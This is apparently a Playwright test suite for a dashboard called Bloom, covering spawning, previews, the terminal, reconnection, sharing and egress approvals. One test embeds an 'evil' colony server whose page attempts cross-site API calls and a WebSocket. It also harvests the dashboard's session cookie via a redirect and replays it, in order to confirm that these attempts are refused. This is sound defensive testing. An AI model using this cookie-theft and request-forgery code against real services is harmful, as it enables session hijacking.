"""Bloom in a real headless Chromium (Debian's chromium, driven by Playwright), against a real
Mycelium: log in with the token URL, spawn from the form, watch states change live, read a
preview inside its sandboxed iframe, type into the terminal, and survive a daemon restart.

Screenshots go to artifacts/bloom/ (gitignored).
"""

from __future__ import annotations

import json
import os
import re
import socket
import subprocess
import sys
import textwrap
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests.conftest import make_repo, new_prefix, scratch_dir
from tests.host import test_egress_gate
from tests.host.conftest import (
    ROOT,
    Daemon,
    Installed,
    make_people,
    own_repo,
    remove_people,
    wait_state,
)

world = test_egress_gate.world  # the fixture: an outside host with HTTP and HTTPS servers
CHROMIUM = Path("/usr/bin/chromium")
ARTIFACTS = ROOT / "artifacts" / "bloom"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
WAIT = 60_000  # ms: upper bound for a state to show up, not a timing assertion

pytestmark = pytest.mark.skipif(
    not CHROMIUM.exists(), reason="needs Debian's chromium (make setup puts it there)"
)

if CHROMIUM.exists():
    from playwright.sync_api import Browser, Page, expect, sync_playwright


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    """One Chromium for the whole module."""
    with sync_playwright() as pw:
        chromium = pw.chromium.launch(executable_path=str(CHROMIUM), args=CHROMIUM_ARGS)
        try:
            yield chromium
        finally:
            chromium.close()


def login_url(d: Daemon) -> str:
    """The one-time URL, as `colony dashboard --no-open --json` prints it."""
    out = subprocess.run(
        [sys.executable, "-m", "colony", "--socket", str(d.socket), "dashboard", "--json"],
        capture_output=True,
        text=True,
        check=True,
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    ).stdout
    return str(json.loads(out)["url"])


def web_repo(tmp_path: Path) -> Path:
    toml = textwrap.dedent("""
        [services.web]
        command = "python3 -m http.server 3000 --bind 127.0.0.1"
        port = 3000
    """)
    page = "<!doctype html><title>preview</title><h1 id='hello'>hello from the preview</h1>\n"
    return make_repo(tmp_path / "repo", {"colony.toml": toml, "index.html": page})


def shot(page: Page, name: str) -> None:
    ARTIFACTS.mkdir(parents=True, exist_ok=True)
    page.screenshot(path=str(ARTIFACTS / f"{name}.png"))


@pytest.fixture
def page(browser: Browser) -> Iterator[Page]:
    context = browser.new_context(viewport={"width": 1400, "height": 1000})
    try:
        yield context.new_page()
    finally:
        context.close()


def test_bloom_spawn_preview_terminal_stop(daemon: Daemon, page: Page, tmp_path: Path) -> None:
    """When a user logs in with the token URL and spawns from the form, the colony reaches
    running without a reload, its preview is readable inside the sandboxed iframe, the terminal
    runs `echo hi`, and stopping it changes the badge."""
    repo = web_repo(tmp_path)
    page.goto(login_url(daemon))
    page.wait_for_url(daemon.client.health()["http_url"] + "/")  # the login page opens Bloom
    assert page.url.startswith("http://bloom.localhost:")  # a name of its own (issue 11)
    expect(page.locator("#live")).to_have_text("live", timeout=WAIT)
    page.evaluate("window.__notReloaded = true")

    page.fill("#create input[name=repo]", str(repo))
    page.fill("#create input[name=name]", "bloom1")
    page.click("#create button[type=submit]")
    badge = page.locator("#row-bloom1 .badge")
    expect(badge).to_have_text("running", timeout=WAIT)
    assert page.evaluate("window.__notReloaded") is True  # live, not reloaded
    shot(page, "1-list-running")

    page.click("#row-bloom1 a")
    expect(page.locator("#badge")).to_have_text("running")
    page.click("button[data-service=web]")
    frame = page.locator("#preview")
    assert frame.get_attribute("sandbox") == "allow-scripts allow-forms allow-popups allow-modals"
    expect(page.frame_locator("#preview").locator("#hello")).to_have_text(
        "hello from the preview", timeout=WAIT
    )

    page.click("#term-open")
    page.locator("#terminal .xterm").click()
    expect(page.locator(".xterm-rows")).to_contain_text(re.compile(r"[#$]"), timeout=WAIT)  # prompt
    page.keyboard.type("echo hi\n")
    answer = page.locator(".xterm-rows > div").filter(has_text=re.compile(r"^\s*hi\s*$"))
    expect(answer).to_have_count(1, timeout=WAIT)
    shot(page, "2-detail-preview-terminal")

    page.click("#detail button[data-action=stop]")
    expect(page.locator("#badge")).to_have_text("stopped", timeout=WAIT)
    expect(page.locator(".timeline li").last).to_contain_text("stopped")
    shot(page, "3-detail-stopped")
    # The panels of the agents (#6) and audit (#5) APIs render: entries, or "not available".
    for panel in ("#agents", "#audit"):
        expect(page.locator(f"{panel} .panel-body")).not_to_have_text("Loading…", timeout=WAIT)
    page.screenshot(path=str(ARTIFACTS / "3b-detail-full.png"), full_page=True)
    page.click("header a[href='/ui/broods']")
    expect(page.locator("#broods")).not_to_have_text("Loading…", timeout=WAIT)
    shot(page, "3c-broods")
    assert daemon.client is not None
    assert daemon.client.colony("bloom1").state == "stopped"


def test_bloom_reconnects_after_daemon_restart(daemon: Daemon, page: Page, tmp_path: Path) -> None:
    """When Mycelium restarts, the page's WebSocket reconnects by itself and shows the current
    state, including a change made while the page was not connected."""
    assert daemon.client is not None
    repo = make_repo(tmp_path / "plain", {"README.md": "no services\n"})
    daemon.client.spawn("steady", repo)
    wait_state(daemon.client, "steady", "running")
    http_url = daemon.client.health()["http_url"]

    page.goto(login_url(daemon))
    expect(page.locator("#row-steady .badge")).to_have_text("running", timeout=WAIT)
    expect(page.locator("#live")).to_have_text("live", timeout=WAIT)
    page.evaluate("window.__notReloaded = true")

    daemon.stop()  # colonies keep running
    expect(page.locator("#live")).to_contain_text("reconnecting", timeout=WAIT)
    shot(page, "4-disconnected")

    daemon.http_port = http_url.rsplit(":", 1)[1]  # the page knows only this address
    client = daemon.start()
    client.stop("steady")  # likely before the page is back: it must catch up on reconnect
    wait_state(client, "steady", "stopped")
    expect(page.locator("#live")).to_have_text("live", timeout=WAIT)
    expect(page.locator("#row-steady .badge")).to_have_text("stopped", timeout=WAIT)

    client.start("steady")  # and live events flow again on the new socket
    expect(page.locator("#row-steady .badge")).to_have_text("running", timeout=WAIT)
    assert page.evaluate("window.__notReloaded") is True
    shot(page, "5-reconnected")


# --- issue 11: a colony's page cannot use Bloom's session -----------------------------------

EVIL = '''
import json, os, sys
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

BLOOM, PORT = sys.argv[1], os.environ["PORT"]
SEEN = []  # every Cookie header a browser sent here
ATTACK = """<!doctype html><title>attack</title><pre id=out>running</pre><script>
const bloom = %s, out = {};
(async () => {
  try {
    const r = await fetch(bloom + "/colonies", {credentials: "include"});
    out.read = r.status;
  } catch (e) { out.read = "blocked"; }
  for (const path of ["/colonies/victim/stop", "/gc"]) {
    try {
      await fetch(bloom + path, {method: "POST", mode: "no-cors", credentials: "include",
        headers: {"Content-Type": "text/plain"}, body: "{}"});
    } catch (e) { /* the answer is opaque either way */ }
  }
  out.ws = await new Promise((done) => {
    const ws = new WebSocket(bloom.replace("http:", "ws:") + "/events");
    ws.onopen = () => { done("open"); ws.close(); };
    ws.onerror = () => done("refused");
  });
  document.getElementById("out").textContent = JSON.stringify(out);
})();
</script>""" % json.dumps(BLOOM)
PAGES = {
    "/": ATTACK,
    # Off to Bloom's name on this port (cross-site: no cookie yet), then on within that site.
    "/hop": f"<script>location.replace('http://bloom.localhost:{PORT}/again')</script>",
    "/again": "<script>location.replace('/stolen')</script>",
    "/stolen": "<p id=stolen>done</p>",
}


class Handler(BaseHTTPRequestHandler):
    def do_GET(self):
        SEEN.extend(self.headers.get_all("Cookie") or [])
        if self.path == "/seen":
            body, kind = json.dumps(SEEN), "application/json"
        else:
            body, kind = PAGES.get(self.path, ""), "text/html"
        self.send_response(200)
        self.send_header("Content-Type", kind)
        self.send_header("Content-Length", str(len(body.encode())))
        self.end_headers()
        self.wfile.write(body.encode())


ThreadingHTTPServer(("127.0.0.1", int(PORT)), Handler).serve_forever()
'''


def test_a_level_none_colony_page_cannot_use_a_bloom_session(
    daemon: Daemon, page: Page, tmp_path: Path
) -> None:
    """When a browser logged into Bloom opens a page served by a colony at level none on
    127.0.0.1, the page's fetches, POSTs and WebSocket to Bloom's API are refused; and a
    session cookie the colony's server gets the browser to send it (cookies ignore ports)
    opens nothing but an empty page skeleton when replayed with Bloom's own Origin."""
    import httpx
    from websockets.exceptions import InvalidStatus
    from websockets.sync.client import connect as ws_connect

    assert daemon.client is not None
    bloom = str(daemon.client.health()["http_url"])
    bloom_port = int(bloom.rsplit(":", 1)[1])
    daemon.client.spawn("victim", make_repo(tmp_path / "victim", {"README.md": "hi\n"}))
    toml = f'[services.web]\ncommand = "python3 evil.py {bloom}"\nport = 3000\n'
    daemon.client.spawn(
        "evil",
        make_repo(tmp_path / "evil", {"evil.py": EVIL, "colony.toml": toml}),
        sandbox="none",  # the host's flag: colony.toml may not loosen the level (issue 10)
    )
    wait_state(daemon.client, "victim", "running")
    evil = wait_state(daemon.client, "evil", "running")
    evil_port = evil.services[0].host_port

    page.goto(login_url(daemon))
    page.wait_for_url(f"{bloom}/")
    expect(page.locator("#row-victim .badge")).to_have_text("running", timeout=WAIT)

    page.goto(f"http://127.0.0.1:{evil_port}/")
    expect(page.locator("#out")).not_to_have_text("running", timeout=WAIT)
    result = json.loads(page.locator("#out").inner_text())
    assert result["ws"] == "refused"
    assert result["read"] in ("blocked", 401, 403)
    page.goto(f"http://127.0.0.1:{evil_port}/hop")
    page.wait_for_url(f"http://bloom.localhost:{evil_port}/stolen")
    shot(page, "6-colony-page")

    seen = httpx.get(f"http://127.0.0.1:{evil_port}/seen", timeout=10).json()
    stolen = [c for c in seen if "colony_session=" in c]
    assert stolen, "the browser sent no Bloom cookie to the colony's port: nothing to replay"
    headers = {"Host": bloom.removeprefix("http://"), "Origin": bloom, "Cookie": stolen[-1]}
    with httpx.Client(base_url=f"http://127.0.0.1:{bloom_port}", timeout=10) as http:
        assert http.get("/colonies", headers=headers).status_code == 403
        assert http.post("/colonies/victim/stop", headers=headers).status_code == 403
        assert http.get("/ui/fragments/rows", headers=headers).status_code == 403
        skeleton = http.get("/", headers=headers)
        assert skeleton.status_code == 200
        assert "victim" not in skeleton.text
    sock = socket.create_connection(("127.0.0.1", bloom_port))
    with (
        pytest.raises(InvalidStatus, match="403"),
        ws_connect(
            f"ws://{headers['Host']}/events",
            sock=sock,
            origin=bloom,  # type: ignore[arg-type]
            additional_headers={"Cookie": headers["Cookie"]},
        ),
    ):
        pass
    sock.close()
    assert daemon.client.colony("victim").state == "running"


def test_bloom_shows_text_not_escapes_and_labels_not_field_names(
    daemon: Daemon, page: Page, tmp_path: Path
) -> None:
    """When a colony prints coloured output and another fails at setup, Bloom's log panel
    shows the text without escape codes, the timeline reads 'at provisioning: …' with its
    separators, and table headings are words, not field names (issue 12)."""
    client = daemon.client
    assert client is not None
    shout = r'printf "\033[32mgreen-text\033[0m\n"; sleep 300'  # a TOML literal string below
    loud = make_repo(tmp_path / "loud", {"colony.toml": f"[services.s]\ncommand = '{shout}'\n"})
    bad = make_repo(tmp_path / "bad", {"colony.toml": '[setup]\ncommands = ["exit 3"]\n'})
    client.spawn("loud", str(loud))
    client.spawn("bad", str(bad))
    wait_state(client, "loud", "running")
    wait_state(client, "bad", "failed")
    page.goto(login_url(daemon))
    page.wait_for_url(client.health()["http_url"] + "/")
    page.goto(client.health()["http_url"] + "/ui/colonies/loud")
    expect(page.locator("#logs")).to_contain_text("s | green-text\n", timeout=WAIT)
    assert "\x1b" not in (page.locator("#logs").text_content() or "")
    expect(page.locator("#audit th").first).to_have_text("#", timeout=WAIT)
    assert "msg" not in (page.locator("#audit thead").text_content() or "")
    page.goto(client.health()["http_url"] + "/ui/colonies/bad")
    failed = page.locator(".timeline li").last
    expect(failed).to_contain_text("failed at provisioning: ", timeout=WAIT)


def test_bloom_logged_in_as_a_user_shows_only_theirs(
    installed: Installed, daemon: Daemon, page: Page
) -> None:
    """When bob logs into Bloom with the URL his own `colony dashboard` prints, the list
    holds his colony and not alice's; once alice shares hers as viewer, it shows up without
    a single button, while his own keeps its stop, restart and remove (issue 14)."""
    users = make_people(installed, daemon)
    scratch = scratch_dir(new_prefix() + "-repos")
    try:
        alice, bob = users["alice"], users["bob"]
        a_web, b_web = f"{alice.name}-web", f"{bob.name}-web"
        alice.ok("spawn", a_web, "--repo", str(own_repo(alice, scratch / "a")))
        bob.ok("spawn", b_web, "--repo", str(own_repo(bob, scratch / "b")))
        page.goto(json.loads(bob.ok("dashboard", "--no-open", "--json"))["url"])
        expect(page.locator(f"#row-{b_web} .badge")).to_have_text("running", timeout=WAIT)
        expect(page.locator(f"#row-{a_web}")).to_have_count(0)
        expect(page.locator(f"#row-{b_web} button[data-action]")).to_have_count(3)
        alice.ok("share", a_web, "--with", bob.name)
        page.reload()
        expect(page.locator(f"#row-{a_web} .badge")).to_have_text("running", timeout=WAIT)
        expect(page.locator(f"#row-{a_web} button[data-action]")).to_have_count(0)
        shot(page, "4-bob-sees-his-and-a-shared-one")
    finally:
        assert daemon.client is not None
        for colony in daemon.client.colonies().colonies:
            daemon.client.remove(colony.name, force=True)
        remove_people(users)
        subprocess.run(["rm", "-rf", str(scratch)], check=False)


# --- issue 16: approving a refused name from a colony's page --------------------------------


@pytest.fixture
def gate_names(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """The daemon resolves names through this hosts file (ask for it before ``daemon``)."""
    return test_egress_gate.hosts_file(tmp_path, monkeypatch)


def test_bloom_allows_a_refused_name_live(
    gate_names: Path,
    daemon: Daemon,
    page: Page,
    tmp_path: Path,
    world: test_egress_gate.World,
) -> None:
    """When the egress gate refused other.test:443 to a colony, its page lists the name with
    an Allow button; a click admits it live: the name leaves the list and the same request
    from inside the colony succeeds, the colony not restarted."""
    client = daemon.client
    assert client is not None
    first = world.ips[0]
    gate_names.write_text(f"{first} ok.test other.test\n")
    ns = test_egress_gate.gated_colony(daemon, tmp_path, ["ok.test:443"]).netns
    fetch = test_egress_gate.fetch
    assert "ACCESS_DENIED" in fetch(ns, world, "tls", first, "other.test").upper()
    before = client.colony("gated").transitions

    page.goto(login_url(daemon))
    page.wait_for_url(client.health()["http_url"] + "/")
    page.goto(client.health()["http_url"] + "/ui/colonies/gated")
    button = page.locator("#blocked button[data-allow='other.test:443']")
    expect(button).to_be_visible(timeout=WAIT)
    shot(page, "6-refused-name")
    button.click()
    expect(page.locator("#blocked")).not_to_contain_text("other.test", timeout=WAIT)
    shot(page, "7-allowed")
    assert fetch(ns, world, "tls", first, "other.test").startswith("HTTP/1.1 200 OK")
    policy = client.network("gated").policy
    assert policy is not None
    assert policy.allow == ["ok.test:443", "other.test:443"]
    assert client.colony("gated").transitions == before
